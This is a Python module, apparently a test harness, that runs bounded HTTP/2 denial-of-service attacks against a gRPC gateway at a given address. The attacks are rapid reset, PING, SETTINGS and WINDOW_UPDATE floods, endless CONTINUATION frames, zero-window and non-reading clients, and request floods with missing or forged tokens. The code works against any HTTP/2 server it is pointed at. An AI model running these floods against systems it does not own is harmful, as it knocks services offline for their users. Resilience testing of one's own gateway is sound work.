"""Clients that abuse HTTP/2, at a bounded rate, for a bounded time."""

from __future__ import annotations

import argparse
import asyncio
import json
import math
import sys
from asyncio import StreamReader, StreamWriter
from collections.abc import Callable, Iterator, Sequence
from contextlib import suppress
from dataclasses import dataclass, replace
from itertools import count, islice, repeat

from hpack import Encoder, NeverIndexedHeaderTuple
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 8
STREAMS = 500  # that the gateway allows on a connection
FIRST_ID = 4_000_000  # of the runs that are asked for
MOST_SECONDS = 60.0
TICK_SECONDS = 0.005  # from burst to burst
AGAIN_SECONDS = 0.02  # until a connection that was closed is opened anew
MOST_BURST = 1000  # units sent at once, after a pause
BLOCK = 65_536
FRAME_HEADER, END_STREAM = 9, 1

Units = Callable[[int], Iterator[bytes]]


def _greeting(**settings: int) -> bytes:
    known = {getattr(SettingsFrame, name): settings[name] for name in settings}
    return PREFACE + SettingsFrame(settings=known).serialize()


def _header(name: str, value: str) -> bytes:
    """Write one header as a literal, so that it means the same in any place."""
    literal = NeverIndexedHeaderTuple(name.encode(), value.encode())
    return bytes(Encoder().encode([literal]))


CALL = b"".join(
    _header(*each)
    for each in (
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/healthomics.v1.RunService/GetRun"),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    )
)
GARBAGE = CALL + _header("authorization", f"Bearer {'x' * 300}.{'y' * 300}.{'z' * 86}")


def _begun(stream: int, headers: bytes = CALL) -> bytes:
    return HeadersFrame(stream, headers, flags=["END_HEADERS"]).serialize()


def _called(stream: int, run_id: int, headers: bytes = CALL) -> bytes:
    digits = str(run_id).encode()
    message = b"\x0a%c%b" % (len(digits), digits)
    body = b"\0" + len(message).to_bytes(4, "big") + message
    data = DataFrame(stream, body, flags=["END_STREAM"])
    return _begun(stream, headers) + data.serialize()


def _again(frame: Frame) -> Iterator[bytes]:
    return repeat(frame.serialize())


def rapid_resets(_number: int) -> Iterator[bytes]:
    """Make call after call, and reset each at once."""
    for at in count():
        stream = 2 * at + 1
        reset = RstStreamFrame(stream, CANCEL).serialize()
        yield _called(stream, FIRST_ID + at) + reset


def pings(_number: int) -> Iterator[bytes]:
    """Ping without end."""
    return _again(PingFrame(0, b"attacker"))


def settings(_number: int) -> Iterator[bytes]:
    """Change a setting without end; each is to be acknowledged."""
    table = SettingsFrame.HEADER_TABLE_SIZE
    return _again(SettingsFrame(settings={table: 4096}))


def continuations(_number: int) -> Iterator[bytes]:
    """Begin one call's headers, and never end them."""
    yield HeadersFrame(1, CALL).serialize()
    yield from _again(ContinuationFrame(1, _header("filler", "x" * 200)))


def headers_alone(_number: int) -> Iterator[bytes]:
    """Begin call after call, and send no message to any."""
    for at in count():
        yield _begun(2 * at + 1)


def empty_data(_number: int) -> Iterator[bytes]:
    """Begin one call, and send it data of no bytes without end."""
    yield _begun(1)
    yield from _again(DataFrame(1, b""))


def window_updates(_number: int) -> Iterator[bytes]:
    """Open the connection's window byte by byte."""
    return _again(WindowUpdateFrame(0, window_increment=1))


def unread_calls(number: int) -> Iterator[bytes]:
    """Make as many calls as a connection may, each about a run of its own."""
    for at in range(STREAMS):
        yield _called(2 * at + 1, FIRST_ID + number * STREAMS + at)


def strangers_calls(_number: int) -> Iterator[bytes]:
    """Make call after call without a token."""
    return (_called(2 * at + 1, FIRST_ID) for at in count())


def forgers_calls(_number: int) -> Iterator[bytes]:
    """Make call after call with a token of nobody's."""
    return (_called(2 * at + 1, FIRST_ID, GARBAGE) for at in count())


def nothing(_number: int) -> Iterator[bytes]:
    """Send no frame."""
    return iter(())


@dataclass(frozen=True, slots=True)
class Attack:
    """What an attacker sends on each of its connections."""

    title: str
    unit: str  # what is counted
    units: Units  # of the connection of a number
    rate: float = 20_000.0  # units a second, on all connections together
    connections: int = 4
    greeting: bytes = _greeting()
    is_reading: bool = True
    in_hand: int | None = None  # units that wait for their end on each connection

    @property
    def asks(self) -> bool:
        """Whether it waits for answers: how much depends on their size."""
        return self.units is unread_calls


ATTACKS = {
    "rapid-reset": Attack("rapid reset", "streams", rapid_resets, rate=1000),
    "ping": Attack("PING flood", "frames", pings),
    "settings": Attack("SETTINGS flood", "frames", settings),
    "continuation": Attack("endless CONTINUATION", "frames", continuations),
    "headers": Attack("HEADERS without DATA", "streams", headers_alone, rate=500),
    "empty-data": Attack("DATA of no bytes", "frames", empty_data),
    "window-update": Attack("WINDOW_UPDATE flood", "frames", window_updates),
    "silent": Attack("silent TCP", "frames", nothing, connections=200, greeting=b""),
    "preface": Attack(
        "preface alone", "frames", nothing, connections=200, greeting=PREFACE
    ),
    "window-zero": Attack(
        "a window of no bytes",
        "streams",
        unread_calls,
        rate=1000,
        connections=1,
        greeting=_greeting(INITIAL_WINDOW_SIZE=0),
    ),
    "unread": Attack(
        "a client that reads nothing",
        "streams",
        unread_calls,
        rate=1000,
        connections=1,
        greeting=_greeting(INITIAL_WINDOW_SIZE=(1 << 31) - 1)
        + WindowUpdateFrame(0, window_increment=(1 << 31) - 1 - 65_535).serialize(),
        is_reading=False,
    ),
}
# As fast as they are answered: what a gateway that knows its callers must bear.
UNKNOWN_CALLERS = {
    "no-token": Attack(
        "calls without a token",
        "calls",
        strangers_calls,
        math.inf,
        connections=2,
        in_hand=STREAMS,
    ),
    "forged-token": Attack(
        "calls with a forged token",
        "calls",
        forgers_calls,
        math.inf,
        connections=2,
        in_hand=STREAMS,
    ),
}


class Attacker:
    """One attack under way."""

    def __init__(self, attack: Attack, address: str, *, again: bool = True) -> None:
        """Aim an attack at a gateway; a connection that it closes is opened `again`."""
        self._attack = attack
        self._again = again
        self._host, _, port = address.rpartition(":")
        self._port = int(port)
        self.begun = asyncio.Event()  # all of its connections are open
        self.sent = 0  # units
        self.opened = 0  # connections
        self.closed = 0  # connections, by the gateway

    async def run(self, seconds: float) -> None:
        """Attack for so long; then close every connection."""
        with suppress(TimeoutError):
            async with asyncio.timeout(seconds), asyncio.TaskGroup() as group:
                for number in range(self._attack.connections):
                    group.create_task(self._go_on(number))

    async def _go_on(self, number: int) -> None:
        """Attack on one connection, and on the next one when it is closed."""
        while True:
            reader, writer = await asyncio.open_connection(self._host, self._port)
            self.opened += 1
            if self.opened >= self._attack.connections:
                self.begun.set()
            try:
                await self._on(reader, writer, number)
            except ConnectionError:
                pass
            finally:
                writer.transport.abort()
            self.closed += 1
            if not self._again:
                return
            await asyncio.sleep(AGAIN_SECONDS)  # bounds how often it connects

    async def _on(
        self, reader: StreamReader, writer: StreamWriter, number: int
    ) -> None:
        """Send all units and wait, until the gateway closes the connection."""
        if not self._attack.is_reading:
            writer.write(self._attack.greeting)
            await self._send(writer, number, _Room(None))
            await asyncio.Future[None]()
        room = _Room(self._attack.in_hand)
        send = self._send_as_answered if self._attack.in_hand else self._send
        sending = asyncio.create_task(send(writer, number, room))
        try:
            writer.write(self._attack.greeting)
            while block := await reader.read(BLOCK):
                room.read(block)
        finally:
            sending.cancel()
            await asyncio.gather(sending, return_exceptions=True)

    async def _send_as_answered(
        self, writer: StreamWriter, number: int, room: _Room
    ) -> None:
        """Send as fast as it goes, as many at a time as the connection may have."""
        units = self._attack.units(number)
        while True:
            burst = list(islice(units, await room.wait()))
            writer.write(b"".join(burst))
            await writer.drain()
            self.sent += len(burst)

    async def _send(self, writer: StreamWriter, number: int, _room: _Room) -> None:
        """Send this connection's part of the rate, in bursts."""
        clock = asyncio.get_running_loop().time
        units = self._attack.units(number)
        rate = self._attack.rate / self._attack.connections
        begun, sent = clock(), 0
        while True:
            due = math.ceil((clock() - begun) * rate) - sent
            if due > 0:
                burst = list(islice(units, min(due, MOST_BURST)))
                if not burst:
                    return
                writer.write(b"".join(burst))
                await writer.drain()
                sent += len(burst)
                self.sent += len(burst)
            await asyncio.sleep(TICK_SECONDS)  # keeps to the rate


class _Room:
    """How many more units a connection may send; each that ends makes room."""

    def __init__(self, size: int | None) -> None:
        self._size = size
        self._open: set[int] = set()
        self._next = 1
        self._unread = b""
        self._freed = asyncio.Event()

    async def wait(self) -> int:
        """Take what room there is, once there is some."""
        assert self._size
        while len(self._open) >= self._size:
            self._freed.clear()
            await self._freed.wait()
        taken = self._size - len(self._open)
        last = self._next + 2 * taken
        self._open |= set(range(self._next, last, 2))
        self._next = last
        return taken

    def read(self, block: bytes) -> None:
        """Note the streams that end: by a flag, or by a reset."""
        if self._size is None:
            return
        data, at = self._unread + block, 0
        while len(data) >= at + FRAME_HEADER:
            size = int.from_bytes(data[at : at + 3])
            if len(data) < at + FRAME_HEADER + size:
                break
            kind, flags = data[at + 3], data[at + 4]
            ended = kind == HeadersFrame.type and flags & END_STREAM
            if ended or kind == RstStreamFrame.type:
                self._open.discard(int.from_bytes(data[at + 5 : at + FRAME_HEADER]))
            at += FRAME_HEADER + size
        self._unread = data[at:]
        if len(self._open) < self._size:
            self._freed.set()


async def _attack(options: argparse.Namespace) -> None:
    attack = (ATTACKS | UNKNOWN_CALLERS)[options.attack]
    attack = replace(attack, rate=options.rate or attack.rate)
    attacker = Attacker(attack, options.address)
    running = asyncio.create_task(attacker.run(options.seconds))
    beginning = asyncio.create_task(attacker.begun.wait())
    await asyncio.wait((running, beginning), return_when=asyncio.FIRST_COMPLETED)
    beginning.cancel()
    _say("begun")
    await running
    _say(
        json.dumps(
            {
                "sent": attacker.sent,
                "opened": attacker.opened,
                "closed": attacker.closed,
            }
        )
    )


def _say(line: str) -> None:
    print(line, flush=True)  # noqa: T201  # told to the process that started this one


def main(arguments: Sequence[str] | None = None) -> int:
    """Run one attack as a program of its own; tell what it came to as JSON."""
    parser = argparse.ArgumentParser(prog="attackers", description=__doc__)
    parser.add_argument("attack", choices=ATTACKS | UNKNOWN_CALLERS)
    parser.add_argument("address", help="the gateway's, as HOST:PORT")
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--rate", type=float, help="units a second, in all")
    options = parser.parse_args(arguments)
    options.seconds = min(options.seconds, MOST_SECONDS)
    asyncio.run(_attack(options))
    return 0


if __name__ == "__main__":
    sys.exit(main())
